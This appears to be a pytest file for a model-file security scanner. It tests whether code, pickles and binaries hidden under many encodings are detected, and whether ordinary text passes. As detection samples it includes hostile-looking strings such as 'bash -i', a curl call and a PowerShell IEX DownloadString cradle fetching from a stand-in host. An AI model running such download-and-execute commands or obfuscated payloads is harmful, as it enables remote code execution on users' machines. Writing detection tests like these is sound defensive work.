"""Files and code as texts write them, in each spelling; and ordinary texts, which hold none."""

import base64
import codecs
import json
import pickle
import random
import zlib

import pytest

from fixtures import executables
from modelaudit.engine.facts import Text
from modelaudit.parsers.base import Nested
from modelaudit.parsers.encodings import encoded_files
from modelaudit.pipeline.embedded import Embedded

PICKLE = pickle.dumps({"a": list(range(40)), "b": print}, protocol=4)
ELF = executables.elf()
CODE = b"import os\nprint(os.getcwd())\nprint(1, 2, 3)\n"


def characters(data: bytes) -> str:
    return "+".join(f"chr({byte})" for byte in data)


SPELLINGS = {
    "base64": lambda data: base64.b64encode(data).decode(),
    "base64 in lines": lambda data: base64.encodebytes(data).decode(),
    "hex": lambda data: data.hex(),
    "escapes": lambda data: "".join(f"\\x{byte:02x}" for byte in data),
    "array": lambda data: ", ".join(f"0x{byte:02X}" for byte in data),
    "spaced": lambda data: data.hex(" "),
    "colons": lambda data: data.hex(":"),
    "percent": lambda data: "".join(f"%{byte:02X}" for byte in data),
    "numbers": lambda data: str(list(data)),
    "characters": characters,
    "base85": lambda data: base64.b85encode(data).decode(),
    "adobe": lambda data: base64.a85encode(data, adobe=True).decode(),
    "rot13 of base64": lambda data: codecs.encode(base64.b64encode(data).decode(), "rot13"),
    "base64 backwards": lambda data: base64.b64encode(data).decode()[::-1],
    "hex backwards": lambda data: data.hex()[::-1],
}


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PICKLE, "pickle"),
        (ELF, "elf"),
        (zlib.compress(PICKLE), "pickle"),
        (CODE, "python"),
        (CODE.decode().encode("utf-16"), "python"),
        (CODE.decode().encode("utf-16-le"), "python"),
        (base64.b64encode(CODE), "python"),
    ],
)
def test_what_is_spelled_is_found(spelling: str, data: bytes, kind: str) -> None:
    found = [one.found[0] for _, one in encoded_files(f"state = '{SPELLINGS[spelling](data)}'\n")]
    assert found == [kind]


def test_layers_are_named() -> None:
    text = base64.b85encode(zlib.compress(base64.b64encode(PICKLE))).decode()
    ((_, found),) = encoded_files(f'"{text}"')
    assert (found.methods, found.data) == (["base85", "zlib", "base64"], PICKLE)
    text = base64.b64encode(CODE.decode().encode("utf-16")).decode()
    ((_, found),) = encoded_files(f'"{text}"')
    assert (found.methods, found.data) == (["base64", "utf-16"], CODE)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("import os; print(os.getcwd())", "python"),
        ("exec(open('a').read())\nimport os", "python"),
        ("#!/bin/sh\necho one\necho two\n", "script"),
    ],
)
@pytest.mark.parametrize("way", ["rot13", "reversed"])
def test_code_that_is_turned(code: str, kind: str, way: str) -> None:
    text = codecs.encode(code, "rot13") if way == "rot13" else code[::-1]
    found = [
        (one.found[0], one.methods) for _, one in encoded_files('x = "' + text.replace("\n", "\\n") + '"; run(x)\n')
    ]
    assert found == [(kind, [way])]


@pytest.mark.parametrize("way", ["rot13", "reversed"])
@pytest.mark.parametrize("code", ['import os; os.system("echo demo")', "import os\nos.system('echo demo')\n"])
def test_turned_code_in_values(way: str, code: str) -> None:
    value = codecs.encode(code, "rot13") if way == "rot13" else code[::-1]
    for text in (value, json.dumps({"a": "b", "hook": value})):
        ((_, found),) = encoded_files(text)
        assert (found.found[0], found.methods, found.data) == ("python", [way], code.encode())


def words(text: str) -> list[tuple[str, list[str]]]:
    """The texts that patterns judge, and the encodings that hid them."""
    return [(one.data.decode(), one.methods) for _, one in encoded_files(text) if one.found[0] == "text"]


@pytest.mark.parametrize(
    "word", ["import os", "from os import system", "exec(x)", "bash -i", "curl x.example/a", "http://x.example/a"]
)
def test_short_commands_and_addresses(word: str) -> None:
    plain = word.encode()
    coded = base64.b64encode(plain).decode()
    for text in (coded, json.dumps({"a": coded}), f"a: {coded.rstrip('=')}\n"):
        assert words(text) == [(word, ["base64"])]
    assert words(f'"{plain.hex()}"') == words(f'"{plain.hex().upper()}"') == [(word, ["hex"])]


def test_addresses_that_are_turned_or_long() -> None:
    address = "https://x.example/a/" + "b" * 40
    assert words(json.dumps({"a": address[::-1]})) == [(address, ["reversed"])]
    assert words(json.dumps({"a": codecs.encode(address, "rot13")})) == [(address, ["rot13"])]
    assert words(json.dumps({"a": list(address.encode())})) == [(address, ["characters"])]
    assert words(json.dumps({"a": base64.b64encode(address.encode()).decode()})) == [(address, ["base64"])]


def test_commands_of_windows() -> None:
    command = b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
    found = [one.found[0] for _, one in encoded_files(base64.b64encode(command).decode())]
    assert found == ["powershell"]


def test_python_that_is_encoded_is_read_as_source() -> None:
    text = Text("m", value=f'run("{base64.b64encode(CODE).decode()}")', role="config")
    found = list(Embedded().encoded(text))
    assert [one.name for one in found if isinstance(one, Nested)] == ["encoded@5.py"]


ORDINARY = [
    "The quick brown fox jumps over the lazy dog. " * 200,
    "f(x)[0] % 2 != b and c; " * 300,
    json.dumps({"suppress_tokens": list(range(900)), "ids": [1, 2, 3, 50, 254] * 40}),
    json.dumps(
        {"integrity": [f"sha512-{base64.b64encode(random.Random(n).randbytes(64)).decode()}" for n in range(300)]}
    ),
    "\n".join(random.Random(n).randbytes(32).hex() for n in range(300)),
    " ".join(f"{n:02x}" for n in range(256)),
    ", ".join(f"0x{random.Random(n).randrange(256):02x}" for n in range(2000)),
    "".join(f"{random.Random(n).randrange(256)}, " for n in range(2000)),
    base64.b64encode(json.dumps({"alg": "HS256", "typ": "JWT", "kid": "a" * 40}).encode()).decode(),
    base64.b64encode(b"A sentence about import and (parentheses) is no program at all.").decode(),
    "AA:BB:CC:DD:EE:FF:" * 40,
    "https://example.com/" + "a/b_c-d/" * 100,
    "0.12, 0.55, 100, 200, 3, " * 100,
    "tropmi is import written backwards, and vzcbeg bf is rot13",
    "x" * 10_000 + "=" * 10_000,
    " ".join(base64.b64encode(random.Random(n).randbytes(12)).decode() for n in range(2000)),
    " ".join(random.Random(n).randbytes(8).hex() for n in range(2000)),
    "aW1wb3J0 aW1wb3J0SI xaW1wb3J0IG9z aW1wb3J0I",
    json.dumps({"aW1wb3J": 1, "Y3VybCB": 2, "aHR0cHM6": 3, "696d706f7274": 4, "lruc": 5}),
]


@pytest.mark.parametrize("text", ORDINARY, ids=range(len(ORDINARY)))
def test_ordinary_texts_hold_nothing(text: str) -> None:
    assert list(encoded_files(text[: 64 * 1024])) == []


def test_changed_spellings_raise_nothing() -> None:
    choose = random.Random(8)
    for write in SPELLINGS.values():
        for data in (PICKLE, CODE):
            text = list(write(data))
            for _ in range(20):
                text[choose.randrange(len(text))] = choose.choice("=~<>'0z\\ \n,é")
                list(encoded_files("".join(text)))
